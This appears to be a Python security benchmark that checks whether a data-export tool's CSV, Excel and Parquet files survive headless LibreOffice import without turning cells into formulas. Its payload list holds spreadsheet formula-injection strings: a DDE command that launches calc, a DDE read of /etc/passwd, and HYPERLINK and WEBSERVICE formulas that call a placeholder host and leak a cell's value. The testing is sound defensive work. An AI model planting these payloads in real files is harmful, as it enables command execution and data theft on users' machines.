"""Files of destinations opened by LibreOffice (trust line SEC-43): no cell becomes a formula, and programs read back what was written.

``python -m bench.spreadsheets`` writes 200 cells of people who mean harm as CSV (both languages) and as Excel by the kinds of
destinations, has ``soffice`` open each, headless, as it usually does and as rashly as it can be told to (every separator, numbers looked
for, formulas evaluated), and counts formulas, links and cells that differ. Machine CSV and Parquet are read back by programs. It prints
JSON and ends with 1 where anything is wrong; where ``soffice`` is not installed it says so and ends with 0 (Debian: libreoffice-calc).
"""

import argparse
import csv
import datetime as dt
import itertools
import json
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator, Mapping, Sequence
from pathlib import Path
from typing import Any
from uuid import UUID
from xml.etree import ElementTree as ET

import pyarrow.parquet as pq

from monocle import ids
from monocle.activate.https import Https
from monocle.activate.kinds import registry
from monocle.activate.kinds.kind import ADD, Aim, Batch, Outgoing, Settings

CELLS = 200
PAYLOADS = (
    "=cmd|'/c calc'!A0", "+1+1", "-2+3", "@SUM(1)", "=1", '=HYPERLINK("http://x.example/?"&A1)', '=WEBSERVICE("http://x.example")',
    '=DDE("soffice";"/etc/passwd";"A1")', "=SUM(1;2)", "\uff1d1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "+33639980000", "%0A=1+1",
    "|=1", "'=1", '"=1"', '=1+1"', "{=1+1}",
)  # fmt: skip
SHAPES = ("{}", " {}", "\t{}", "\r{}", "\n{}", "\u00a0{}", "\x00{}", "a;{}", "a,{}", "a\t{}")
RASH = "44/59/9,34,76,1,,0,false,true,false,false,false,-1,true"
"""LibreOffice's options for CSV: every separator, UTF-8, numbers looked for, formulas evaluated."""
WAYS: Mapping[str, tuple[str, Mapping[str, str], str]] = {
    "csv_en": ("csv", {"language": "en"}, ""),
    "csv_en_rashly": ("csv", {"language": "en"}, RASH),
    "csv_fr": ("csv", {"language": "fr"}, "59,34,76,1"),
    "csv_fr_with_commas": ("csv", {"language": "fr"}, ""),
    "csv_fr_rashly": ("csv", {"language": "fr"}, RASH),
    "xlsx": ("xlsx", {}, ""),
    "control": ("csv", {"profile": "machine"}, RASH),
}
"""The last is a file for programs, as it is: formulas must be found in it, or nothing was looked at."""
_OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:%s:1.0}%s"
_AT = dt.datetime(2026, 11, 22, 12, tzinfo=dt.UTC)


def payloads(count: int = CELLS) -> Sequence[str]:
    """Give so many cells."""
    every = [shape.format(one) for one in PAYLOADS for shape in SHAPES]
    return list(itertools.islice(itertools.cycle(every), count))


def written(kind: str, folder: Path, texts: Sequence[str], **plain: str) -> Path:
    """Give the file that a destination of a kind is for some customers, one with each text."""
    made = registry.kind(kind)
    settings = Settings("place", {**plain, "folder": "."}, (), folder)
    aim = Aim("hostile", "marketing", "email", {}, "difference", {"name": "first_name"})
    rows = [
        Outgoing(ids.time_ordered(), UUID(int=number), ADD, made.prepare({"name": text}, settings, aim), None, _AT)
        for number, text in enumerate(texts)
    ]
    made.send(Batch(ids.time_ordered(), ids.time_ordered(), aim, rows, _AT), settings, Https())
    (path,) = (one for one in folder.iterdir() if one.is_file())
    return path


def opened(soffice: str, path: Path, options: str = "") -> Path:
    """Have LibreOffice open a file and write what it made of it, as flat XML."""
    out, profile = path.parent / "opened", path.parent / "profile"
    reads = [f"--infilter=CSV:{options}"] if options else []
    subprocess.run(
        [
            soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore", *reads, "--convert-to", "fods",
            "--outdir", str(out), str(path),
        ],
        check=True, capture_output=True, timeout=300,
    )  # fmt: skip
    return out / f"{path.stem}.fods"


def cells(path: Path) -> Iterator[tuple[Mapping[str, str], str]]:
    """Give each cell that holds something: what LibreOffice says of it, and its text."""
    for _, one in ET.iterparse(path):  # noqa: S314 (LibreOffice wrote it, just now)
        if one.tag == _OFFICE % ("table", "table-cell") and (len(one) or one.attrib):
            lines = ["".join(part.itertext()) for part in one.findall(_OFFICE % ("text", "p"))]
            yield one.attrib, "\n".join(lines)


def found(path: Path) -> Mapping[str, Any]:
    """Give what of harm LibreOffice made of a file."""
    every = list(cells(path))
    formulas = [text for said, text in every if _OFFICE % ("table", "formula") in said]
    raw = path.read_text(encoding="utf-8")
    return {
        "cells": len(every),
        "formulas": len(formulas),
        "shown": formulas[:5],
        "links": raw.count("xlink:href") + raw.count("dde-link") + raw.count("dde-source"),
    }


def differences(folder: Path, texts: Sequence[str]) -> Mapping[str, int]:
    """Give how many cells programs read otherwise than they were written."""
    (folder / "csv").mkdir()
    (folder / "parquet").mkdir()
    with written("csv", folder / "csv", texts, profile="machine").open(encoding="utf-8", newline="") as file:
        read = [row["name"] for row in csv.DictReader(file)]
    held = pq.read_table(written("parquet", folder / "parquet", texts)).column("name").to_pylist()
    return {
        "machine_csv": sum(one != other for one, other in itertools.zip_longest(texts, read)),
        "parquet": sum(one != other for one, other in itertools.zip_longest(texts, held)),
    }


def tried(soffice: str, folder: Path, texts: Sequence[str]) -> Mapping[str, Any]:
    """Open every file in every way; name → what was found."""
    told = {}
    for name, (kind, plain, options) in WAYS.items():
        place = folder / name
        place.mkdir()
        told[name] = found(opened(soffice, written(kind, place, texts, **plain), options))
    return told


def main(arguments: Sequence[str] | None = None) -> int:
    """Run it, and give 1 where anything is wrong."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--cells", type=int, default=CELLS)
    parser.add_argument("--keep", type=Path, help="a new folder for the files")
    asked = parser.parse_args(arguments)
    texts = payloads(asked.cells)
    soffice = shutil.which("soffice")
    with tempfile.TemporaryDirectory(prefix="monocle-spreadsheets-") as made:
        folder = asked.keep or Path(made)
        folder.mkdir(exist_ok=True)
        differs = differences(folder, texts)
        told = tried(soffice, folder, texts) if soffice else {}
    blind = bool(told) and not told["control"]["formulas"]
    wrong = sum(differs.values()) + blind
    wrong += sum(one["formulas"] + one["links"] for name, one in told.items() if name != "control")
    said = {"cells": len(texts), "soffice": bool(soffice), "round_trip_differences": differs, "opened": told, "wrong": wrong}  # fmt: skip
    if not soffice:
        said["note"] = "soffice is not installed, so nothing was opened; on Debian: apt-get install libreoffice-calc"
    print(json.dumps(said, indent=1, ensure_ascii=False))
    return int(wrong > 0)


if __name__ == "__main__":
    sys.exit(main())
